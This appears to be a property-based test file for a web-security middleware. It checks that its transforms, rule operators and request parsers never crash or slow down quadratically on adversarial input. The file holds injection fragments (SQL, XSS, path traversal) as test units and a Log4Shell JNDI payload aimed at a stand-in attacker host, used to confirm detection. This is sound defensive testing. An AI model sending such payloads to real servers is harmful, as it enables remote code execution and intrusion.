"""Properties that must hold for any input: no exception, no super-linear time, no lost view.

Random and adversarial strings go to every transform, every packaged rule's operator and
the body/query/cookie parsers. Time is never compared with an absolute threshold: the same
work is timed on an input and on one eight times longer, and the ratio must stay far from
what a quadratic algorithm gives (64). Each timing is the best of a few runs, so a busy
machine inflates both sides alike.
"""

from __future__ import annotations

import time
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devsecmw.body import parse_body
from devsecmw.engine import Engine
from devsecmw.engine import transforms as tf
from devsecmw.engine.chains import BATCH_FROM, Planner, Reduced, reduce_chain, trigger_mask, trigger_mask_py
from devsecmw.engine.rules import load_packaged
from devsecmw.engine.targets import Item
from devsecmw.request import HttpRequest, parse_cookies, parse_qsl

RULES = load_packaged()
CHAINS = sorted({r.transforms for r in RULES} | {(name,) for name in tf.TRANSFORMS})

# Characters transforms and rules react to, mixed with plain text and some Unicode.
_CHARS = list("aAzZ09 \t\n\r%+&;\\/'\"`^$,()*<>=.#{}:?!|-_\x00\x0b")
_PIECES = ["%2e", "%25", "%u002f", "&amp;", "&lt;", "&#x3c;", "\\x3c", "\\u003c", "/*", "*/", "0x2e"]
_PIECES.append("${IFS}")
_UNICODE = ["\uff0e", "\uff0f", "é", "İ", "ß", "\u2028", "\u00a0", "\ud800", "ﷺ", "K"]
_ALPHABET = st.sampled_from([*_CHARS, *_PIECES, *_UNICODE])
TEXT = st.lists(_ALPHABET, max_size=40).map("".join) | st.text(max_size=40)
SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])

#: Units repeated into long adversarial inputs: each starts some construct without finishing it.
UNITS = [
    " ",
    "a",
    "%",
    "%25",
    "%u00",
    "&",
    "&#",
    "&amp;",
    "\\",
    "\\u00",
    "/*",
    "'",
    '"',
    "${",
    "$(",
    "((",
    "<a ",
    "<!--",
    "{{",
    "..;/",
    "./",
    "//",
    "0x",
    "\n ",
    " \t",
    "union select ",
    "'/*<a \"||(select ../ ${jndi: %2e%2e <svg on ",
    "é\u00a0",
    "\x00",
]


def _best(fn: Callable[[], object], runs: int = 5) -> float:
    best = float("inf")
    for _ in range(runs):
        t0 = time.perf_counter()
        fn()
        best = min(best, time.perf_counter() - t0)
    return best


def _growth(fn: Callable[[str], object], unit: str, size: int = 4000) -> float:
    """Time of ``fn`` on ``unit`` repeated to 8x ``size`` characters, over its time at ``size``."""
    small = (unit * (size // len(unit) + 1))[:size]
    big = (unit * (8 * size // len(unit) + 1))[: 8 * size]
    fn(small)  # warm caches (RE2 builds its automata lazily)
    fn(big)
    t_small = max(_best(lambda: fn(small)), 2e-5)  # below the timer's useful resolution
    return _best(lambda: fn(big)) / t_small


MAX_GROWTH = 40.0  # linear work gives ~8 (up to ~30 with cache effects and load); quadratic ~64


# ---------------------------------------------------------------------------- transforms
@pytest.mark.parametrize("name", sorted(tf.TRANSFORMS))
@SETTINGS
@given(value=TEXT)
def test_transform_is_total(name: str, value: str) -> None:
    out, changed = tf.TRANSFORMS[name](value)
    assert isinstance(out, str)
    assert changed == (out != value)


@pytest.mark.parametrize("name", sorted(tf.TRANSFORMS))
def test_transform_is_linear(name: str) -> None:
    fn = tf.TRANSFORMS[name]
    worst = max((_growth(fn, u), u) for u in UNITS)
    assert worst[0] < MAX_GROWTH, f"{name} grows {worst[0]:.0f}x for 8x input of {worst[1]!r}"


@SETTINGS
@given(value=TEXT)
def test_reduced_chains_give_the_same_text(value: str) -> None:
    """Skipping transforms that cannot change a value never changes a view."""
    mask = trigger_mask(value)
    red = Reduced(CHAINS, mask)
    memo = red.apply(value)
    for chain in CHAINS:
        assert memo[red.views[chain]] == tf.apply_chain(value, chain), (chain, reduce_chain(chain, mask))


SOME_CHAINS = [CHAINS, *({(n,)} for n in tf.TRANSFORMS), [("trim",), ("cmd_line",)]]
PLANNERS = [Planner(chains) for chains in SOME_CHAINS]
#: Values as a query or a JSON body holds them: words, ids, spaces at the edges, base64, the odd trigger.
_WORDS = ["romeo 7", "alpha0", " edge", "edge ", "two  spaces", "0x1f", "QUEBEC", "é", "a\x01b", "id=3"]
# Long enough for for_values to test the values past its first BATCH_FROM together.
_ITEMS = st.sampled_from([*_WORDS, "aGVsbG8gd29ybGQgaGVsbG8=", "plain", "words"]) | TEXT
VALUE_LISTS = st.lists(_ITEMS, max_size=4 * BATCH_FROM)


#: Mostly quiet values (as a query's): for_values then tests those past its first ones together.
_QUIET = ["plain", "words", "id42", "abc-def", "x7"]
MOSTLY_QUIET = st.lists(st.sampled_from(_QUIET * 6 + _WORDS), max_size=80)


@SETTINGS
@given(values=VALUE_LISTS | MOSTLY_QUIET)
def test_batched_quiet_test_is_the_one_by_one_test(values: list[str]) -> None:
    """Planner.for_values (one search over the joined values) gives each value the reduction
    for_value gives it alone, whatever the neighbours (an edge space, "0" then "x")."""
    for planner in PLANNERS:
        common, others = planner.for_values(values)
        assert [others.get(v, common).views for v in values] == [planner.for_value(v).views for v in values]


def test_batched_quiet_test_finds_each_loud_value_among_quiet_ones() -> None:
    planner = Planner(CHAINS)
    quiet = [f"value{i}" for i in range(3 * BATCH_FROM)]
    loud = ["Upper", "two  spaces", " edge", "edge ", "0x41", "%41", "caf\u00e9", "a\x01 b"]
    loud.append("aGVsbG8gd29ybGQgaGVsbG8=")  # quiet, but base64: its probe tells
    values = quiet + loud + quiet[:3]
    _, others = planner.for_values(values)
    assert set(others) == set(loud)  # searched together: every loud one found, no quiet one taken
    assert all(others[v].views == planner.for_value(v).views for v in loud)


@SETTINGS
@given(value=st.text(alphabet=st.sampled_from(list("AZaz09+/=_- \t\n")), max_size=tf.B64_MIN + 8))
def test_base64_decode_leaves_values_shorter_than_its_minimum(value: str) -> None:
    # The trigger probe skips the call below this length (chains._probe): it must not matter.
    if len(value) < tf.B64_MIN:
        assert tf.base64_decode(value) == (value, False)
    assert tf.base64_decode(value.strip())[1] is False or len(value.strip()) >= tf.B64_MIN


@SETTINGS
@given(value=TEXT, times=st.integers(1, 6))
def test_trigger_mask_of_the_set_scan_is_the_python_one(value: str, times: int) -> None:
    # Long values are classified by one RE2 set scan, short ones in Python: the same bits.
    text = value * times
    assert trigger_mask(text) == trigger_mask_py(text)


@SETTINGS
@given(value=TEXT)
def test_cmd_line_leaves_single_blanks(value: str) -> None:
    # Runs of spaces (also made of commas) become one space; tabs/CR/FF/VT never remain.
    out = tf.cmd_line(value)[0]
    assert not any(c in out for c in "\t\r\f\v")
    if not any(c in value for c in "\t\r\f\v"):
        assert "  " not in out
    assert tf.cmd_line("a,  b , ,c\t d")[0] == "a b c d"


@pytest.mark.parametrize("unit", UNITS)
def test_reduced_chains_on_long_values(unit: str) -> None:
    # Long values take the substring path of trigger_mask: same answer required.
    value = unit * (600 // len(unit) + 1) + "X"
    red = Reduced(CHAINS, trigger_mask(value))
    memo = red.apply(value)
    for chain in CHAINS:
        assert memo[red.views[chain]] == tf.apply_chain(value, chain), chain
    # Transform results shared between long values of one request: the same texts.
    shared: dict[tuple[tf.Transform, str], str] = {}
    long = value * 3
    for text in (long, long.upper(), long):
        red = Reduced(CHAINS, trigger_mask(text))
        assert red.apply(text, shared) == red.apply(text)
    assert shared


# ---------------------------------------------------------------------------- operators
_ITEM = Item("query", "query:x", "", True)


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(value=TEXT)
def test_operator_is_total(rule: object, value: str) -> None:
    span = rule.operator.evaluate(value, _ITEM)  # type: ignore[attr-defined]
    if span is not None:
        start, end = span
        # (end may pass len(value) when a check measured a lowercased copy: "İ".lower() is
        # two characters. Evidence excerpts clamp it.)
        assert 0 <= start <= end


@pytest.mark.parametrize("rule", RULES, ids=lambda r: r.id)
def test_operator_is_linear(rule: object) -> None:
    op = rule.operator  # type: ignore[attr-defined]
    worst = max((_growth(lambda v: op.evaluate(v, _ITEM), u, 2000), u) for u in UNITS)
    assert worst[0] < MAX_GROWTH, f"{rule.id} grows {worst[0]:.0f}x for 8x input of {worst[1]!r}"  # type: ignore[attr-defined]


# ---------------------------------------------------------------------------- parsers
CONTENT_TYPES = [
    None,
    "application/json",
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=xyz",
    "multipart/form-data",
    "text/plain",
    "application/xml",
    "application/octet-stream",
]


@pytest.mark.parametrize("ctype", CONTENT_TYPES)
@SETTINGS
@given(raw=st.binary(max_size=200) | TEXT.map(lambda s: s.encode("utf-8", "surrogatepass")))
def test_body_parser_is_total(ctype: str | None, raw: bytes) -> None:
    pb = parse_body(raw, ctype)
    assert pb.size == len(raw)
    for f in [*pb.fields, *pb.keys, *pb.files]:
        assert isinstance(f.value, str) and isinstance(f.location, str)


@SETTINGS
@given(qs=TEXT, cookie=TEXT)
def test_query_and_cookie_parsers_are_total(qs: str, cookie: str) -> None:
    for f in parse_qsl(qs):
        assert f.location.startswith("query:")
    for f in parse_cookies([cookie]):
        assert f.location.startswith("cookie:")


@pytest.mark.parametrize(
    ("ctype", "unit"),
    [
        ("application/json", '{"a":['),
        ("application/json", '["\\u00e9",'),
        ("application/x-www-form-urlencoded", "a=%25&"),
        ("application/x-www-form-urlencoded", "%"),
        ("multipart/form-data; boundary=b", "--b\r\n"),
        ("multipart/form-data; boundary=b", '--b\r\nContent-Disposition: form-data; name="x"\r\n\r\nv\r\n'),
        (None, "a=b&"),
        (None, "{"),
    ],
)
def test_body_parser_is_linear(ctype: str | None, unit: str) -> None:
    growth = _growth(lambda v: parse_body(v.encode(), ctype), unit, 4000)
    assert growth < MAX_GROWTH


# ---------------------------------------------------------------------------- malformed bodies
ENGINE = Engine()


def _post(body: bytes, ctype: str | None) -> HttpRequest:
    headers = [("content-type", ctype)] if ctype else []
    req = HttpRequest("POST", "/submit", "/submit", headers=headers)
    req.add_body(body, 1 << 20)
    req.body_complete = True
    return req


ATTACK = "${jndi:ldap://attacker.example/a}"


@pytest.mark.parametrize(
    ("ctype", "body"),
    [
        ("application/json", b'{"comment": "' + ATTACK.encode() + b'"'),  # unterminated
        ("application/json", b"[" * 10_000 + b'"' + ATTACK.encode() + b'"' + b"]" * 10_000),
        ("multipart/form-data; boundary=nope", b"--other\r\n\r\n" + ATTACK.encode()),
        ("application/x-www-form-urlencoded", b"comment=" + ATTACK.encode() + b"&bad=%zz%\xff\xfe"),
        ("text/plain", b"\xff\xfe" + ATTACK.encode()),
    ],
    ids=["broken-json", "nested-10000", "bad-boundary", "invalid-escapes", "invalid-utf8"],
)
def test_malformed_body_is_inspected_as_text(ctype: str, body: bytes) -> None:
    req = _post(body, ctype)
    signals = ENGINE.inspect(req, "body")
    assert "log4shell" in {s.type for s in signals}


def test_deep_json_is_walked_without_recursion() -> None:
    depth = 5000
    text = '{"a":' * depth + '"leaf"' + "}" * depth
    pb = parse_body(text.encode(), "application/json")
    assert pb.kind in ("json", "text")  # too deep for json.loads is fine: the raw text remains
    assert pb.text == text


@SETTINGS
@given(query=TEXT, body=TEXT, ctype=st.sampled_from(CONTENT_TYPES))
def test_engine_never_raises(query: str, body: str, ctype: str | None) -> None:
    req = _post(body.encode("utf-8", "surrogatepass"), ctype)
    req.query_string = query
    req.target = "/submit?" + query
    for s in ENGINE.inspect(req, "head") + ENGINE.inspect(req, "body"):
        assert s.rule_id and s.location
